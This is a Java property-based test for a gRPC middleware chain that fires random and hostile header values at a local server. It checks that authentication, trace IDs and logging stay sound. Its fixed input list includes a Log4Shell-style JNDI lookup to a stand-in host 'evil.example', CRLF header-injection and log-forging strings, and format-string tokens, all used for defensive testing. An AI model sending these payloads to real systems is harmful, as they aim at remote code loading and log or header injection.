package io.github.grpcmiddleware.reliability;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.LoggerContext;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.UnsynchronizedAppenderBase;
import io.github.grpcmiddleware.examples.ExampleServices;
import io.github.grpcmiddleware.examples.proto.GreeterGrpc;
import io.github.grpcmiddleware.examples.proto.HelloRequest;
import io.github.grpcmiddleware.examples.proto.UserRequest;
import io.github.grpcmiddleware.examples.proto.UserServiceGrpc;
import io.grpc.ManagedChannel;
import io.grpc.Metadata;
import io.grpc.Status;
import io.grpc.StatusRuntimeException;
import io.grpc.stub.MetadataUtils;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Queue;
import java.util.Random;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicReference;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.LongStream;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.slf4j.LoggerFactory;

/**
 * Random and hostile values of every header the chain reads ({@code traceparent}, {@code
 * tracestate}, {@code baggage}, {@code x-request-id}, {@code accept-language}, {@code
 * authorization}), sometimes sent twice, through one shared Netty server with the full chain: no
 * interceptor throws, a public call always succeeds, an authenticated one ends OK exactly when the
 * {@code authorization} header is a valid bearer token (see {@link #accepted}) and UNAUTHENTICATED
 * otherwise (never INTERNAL or UNKNOWN), the trace id echoed is always a W3C trace id, and no log
 * line or MDC value carries a CR or LF. 200 seeded cases (see {@link Seeds}).
 */
class HostileHeadersPropertyTest {
  private static final List<String> HEADERS =
      List.of(
          "traceparent",
          "tracestate",
          "baggage",
          "x-request-id",
          "accept-language",
          "authorization");

  /** Log cardinality stays bounded: these MDC keys and no others, whatever callers send. */
  private static final java.util.Set<String> MDC_KEYS =
      java.util.Set.of("traceId", "spanId", "requestId", "locale", "principal");

  private static final String LIBRARY_LOGGERS = "io.github.grpcmiddleware";

  private static @Nullable ChainServer server;
  private static @Nullable ManagedChannel channel;
  private static final Queue<String> problems = new ConcurrentLinkedQueue<>();
  private static final Capture capture = new Capture();

  /** Records every library log line that contains CR/LF or is WARN/ERROR. */
  static final class Capture extends UnsynchronizedAppenderBase<ILoggingEvent> {
    @Override
    protected void append(ILoggingEvent event) {
      String message = event.getFormattedMessage();
      if (message.indexOf('\r') >= 0 || message.indexOf('\n') >= 0) {
        problems.add("CR/LF in log line: " + message);
      }
      for (Map.Entry<String, String> e : event.getMDCPropertyMap().entrySet()) {
        if (!MDC_KEYS.contains(e.getKey())) {
          problems.add("MDC key outside the fixed set: " + e.getKey());
        }
        if (e.getValue().indexOf('\r') >= 0 || e.getValue().indexOf('\n') >= 0) {
          problems.add("CR/LF in MDC " + e.getKey() + ": " + e.getValue());
        }
      }
      if (event.getLevel().isGreaterOrEqual(ch.qos.logback.classic.Level.WARN)) {
        problems.add(event.getLevel() + " " + event.getLoggerName() + ": " + message);
      }
    }
  }

  @BeforeAll
  static void start() {
    Logger logger = ((LoggerContext) LoggerFactory.getILoggerFactory()).getLogger(LIBRARY_LOGGERS);
    capture.setContext(logger.getLoggerContext());
    capture.start();
    logger.addAppender(capture);
    ChainServer started =
        ChainServer.start(
            3, Chains.server(), ExampleServices.greeter(), ExampleServices.userService());
    server = started;
    channel = started.channel(Chains.anonymousClient());
  }

  @AfterAll
  static void stop() throws InterruptedException {
    Logger logger = ((LoggerContext) LoggerFactory.getILoggerFactory()).getLogger(LIBRARY_LOGGERS);
    logger.detachAppender(capture);
    capture.stop();
    ChainServer running = server;
    if (running != null) {
      running.close();
    }
  }

  private static final List<String> FIXED =
      List.of(
          "\r\nX-Forged: yes",
          "ok\nINFO fake log line",
          "${jndi:ldap://evil.example/a}",
          "%n%s%x%d",
          "",
          " ",
          "\u0000\u0007",
          "😀 emoji ünïcode 中文",
          "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
          "00-00000000000000000000000000000000-00f067aa0ba902b7-01",
          "00-4bf92f3577b34da6a3ce929d0e0e4736-0000000000000000-01",
          "ff-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
          "00-4BF92F3577B34DA6A3CE929D0E0E4736-00f067aa0ba902b7-01",
          "01-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01-future",
          "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01-",
          "zh-CN;q=2, en;q=-1, *;q=0, ,,;;",
          "*",
          "zh-TW",
          "a=1,".repeat(40),
          "k=v;p=q, x".repeat(20),
          "Bearer " + Chains.TOKEN_A,
          "bEaReR    " + Chains.TOKEN_B,
          "Bearer " + Chains.TOKEN_A + " trailing",
          "Bearer\t" + Chains.TOKEN_A,
          "Basic YWxhZGRpbjpvcGVuc2VzYW1l",
          "Bearer");

  /** A random or hostile header value: one of five kinds, each as likely. */
  static String hostile(Random random) {
    return switch (random.nextInt(5)) {
      case 0 -> Seeds.string(random, Seeds.ANY, 0, 80);
      case 1 -> Seeds.string(random, Seeds.ASCII, 0, 300);
      case 2 -> Seeds.string(random, Seeds.from("0123456789abcdefABCDEF-,;=*. q\t"), 0, 120);
      case 3 -> Seeds.string(random, Seeds.from("az-,;="), 500, 900);
      default -> Seeds.pick(random, FIXED);
    };
  }

  /**
   * An {@code authorization} value near the accepted form: the scheme in random case, one to three
   * spaces or a tab, a known token, an unknown one or a known one with something around it.
   */
  static String bearerLike(Random random) {
    StringBuilder scheme = new StringBuilder();
    for (char c : "bearer".toCharArray()) {
      scheme.append(random.nextBoolean() ? Character.toUpperCase(c) : c);
    }
    String separator = Seeds.pick(random, List.of(" ", "  ", "   ", "\t", ""));
    String token = random.nextBoolean() ? Chains.TOKEN_A : Chains.TOKEN_B;
    token =
        switch (random.nextInt(6)) {
          case 0 -> token + Seeds.pick(random, List.of(" ", " x", "\t", "x", "\u00e9"));
          case 1 -> Seeds.pick(random, List.of(" ", "x", "\"")) + token;
          case 2 -> token.substring(0, token.length() - 1);
          case 3 -> token.toUpperCase(java.util.Locale.ROOT);
          default -> token;
        };
    return scheme + separator + token;
  }

  private static final Pattern BEARER = Pattern.compile("(?i:bearer) +(.*)", Pattern.DOTALL);

  /**
   * The values of a header the server receives: grpc-java's transport drops, on receipt, a value
   * with a character outside 0x20..0x7E (tab, CR, LF, other controls); the client's ASCII
   * marshaller has already turned each non-ASCII character into {@code ?}, which is kept.
   */
  static List<String> received(@Nullable Iterable<String> sent) {
    List<String> kept = new ArrayList<>();
    if (sent != null) {
      for (String value : sent) {
        if (value.chars().allMatch(c -> (c >= 0x20 && c <= 0x7e) || c >= 0x80)) {
          kept.add(value);
        }
      }
    }
    return kept;
  }

  /**
   * What the server's {@code Authenticators.bearerTokens} accepts, restated: exactly one {@code
   * authorization} value received, whose scheme is {@code Bearer} in any case (RFC 7235), then one
   * space or more, then a known token, exactly, to the end of the value.
   */
  static boolean accepted(List<String> authorization) {
    if (authorization.size() != 1) {
      return false;
    }
    Matcher bearer = BEARER.matcher(authorization.get(0));
    return bearer.matches() && Chains.TOKENS.containsKey(bearer.group(1));
  }

  /**
   * The share of the header list left to the generated headers: a server accepts 8 KiB (grpc-java's
   * default {@code SETTINGS_MAX_HEADER_LIST_SIZE}, counted as RFC 9113 does: name, value and 32
   * octets per field), and the pseudo-headers and grpc-java's own headers take the rest. A list
   * over the limit never reaches the chain: the client's transport refuses to send it ({@code
   * INTERNAL: http2 exception}, "Header size exceeded max allowed size (8192)"), as seed
   * -6250732740852002797 showed with six long values each sent twice.
   */
  private static final int HEADER_BUDGET = 8192 - 1024;

  /**
   * The headers to send, {@code present} without its repeated values when with them the list would
   * not fit {@link #HEADER_BUDGET}; six values, once each, always fit.
   */
  static int fitting(int present, String[] values, String duplicate) {
    if (listSize(present, values, duplicate) <= HEADER_BUDGET) {
      return present;
    }
    int once = present & 0x3f;
    assertThat(listSize(once, values, duplicate)).isLessThanOrEqualTo(HEADER_BUDGET);
    return once;
  }

  /** The header-list size of the headers {@code present} selects, by characters (>= octets). */
  private static int listSize(int present, String[] values, String duplicate) {
    int size = 0;
    for (int i = 0; i < HEADERS.size(); i++) {
      if ((present & (1 << i)) != 0) {
        size += HEADERS.get(i).length() + values[i].length() + 32;
        if ((present & (1 << (i + 6))) != 0) {
          size += HEADERS.get(i).length() + duplicate.length() + 32;
        }
      }
    }
    return size;
  }

  static LongStream seeds() {
    return Seeds.of(200);
  }

  @ParameterizedTest(name = "seed {0}")
  @MethodSource("seeds")
  void hostileHeadersNeverBreakTheChain(long seed) {
    Seeds.replayable(seed, () -> hostileHeadersNeverBreakTheChain(new Random(seed)));
  }

  private static void hostileHeadersNeverBreakTheChain(Random random) {
    String traceparent = hostile(random);
    String tracestate = hostile(random);
    String baggage = hostile(random);
    String requestId = hostile(random);
    String acceptLanguage = hostile(random);
    String authorization = random.nextInt(3) == 0 ? bearerLike(random) : hostile(random);
    String duplicate = hostile(random);
    // Which headers are present (bits 0-5) and which are sent twice (bits 6-11).
    int present = random.nextInt(1 << 12);
    check(
        traceparent,
        tracestate,
        baggage,
        requestId,
        acceptLanguage,
        authorization,
        duplicate,
        present);
  }

  private static void check(
      String traceparent,
      String tracestate,
      String baggage,
      String requestId,
      String acceptLanguage,
      String authorization,
      String duplicate,
      int present) {
    String[] values = {traceparent, tracestate, baggage, requestId, acceptLanguage, authorization};
    Metadata headers = new Metadata();
    int sent = fitting(present, values, duplicate);
    for (int i = 0; i < HEADERS.size(); i++) {
      if ((sent & (1 << i)) != 0) {
        headers.put(Rpc.ascii(HEADERS.get(i)), values[i]);
        if ((sent & (1 << (i + 6))) != 0) {
          headers.put(Rpc.ascii(HEADERS.get(i)), duplicate);
        }
      }
    }
    AtomicReference<Metadata> responseHeaders = new AtomicReference<>();
    AtomicReference<Metadata> trailers = new AtomicReference<>();
    ManagedChannel open = channel;
    assertThat(open).isNotNull();
    var greeter =
        GreeterGrpc.newBlockingStub(open)
            .withInterceptors(
                MetadataUtils.newAttachHeadersInterceptor(headers),
                MetadataUtils.newCaptureMetadataInterceptor(responseHeaders, trailers))
            .withDeadlineAfter(10, TimeUnit.SECONDS);
    assertThat(greeter.sayHello(HelloRequest.newBuilder().setName("p").build()).getMessage())
        .isEqualTo("Hello, p!");
    assertThat(responseHeaders.get().get(Rpc.X_TRACE_ID)).matches("[0-9a-f]{32}");
    assertThat(responseHeaders.get().get(Rpc.X_TRACE_ID)).isNotEqualTo("0".repeat(32));

    var users =
        UserServiceGrpc.newBlockingStub(open)
            .withInterceptors(MetadataUtils.newAttachHeadersInterceptor(headers))
            .withDeadlineAfter(10, TimeUnit.SECONDS);
    Status.Code code;
    try {
      users.getUser(UserRequest.newBuilder().setId(1).build());
      code = Status.Code.OK;
    } catch (StatusRuntimeException e) {
      code = e.getStatus().getCode();
      assertThat(e.getStatus().getDescription()).doesNotContain("\r", "\n");
    }
    List<String> authorizationReceived = received(headers.getAll(Rpc.ascii("authorization")));
    assertThat(code)
        .as("authorization received: %s", authorizationReceived)
        .isEqualTo(accepted(authorizationReceived) ? Status.Code.OK : Status.Code.UNAUTHENTICATED);
    assertThat(problems).isEmpty();
  }
}
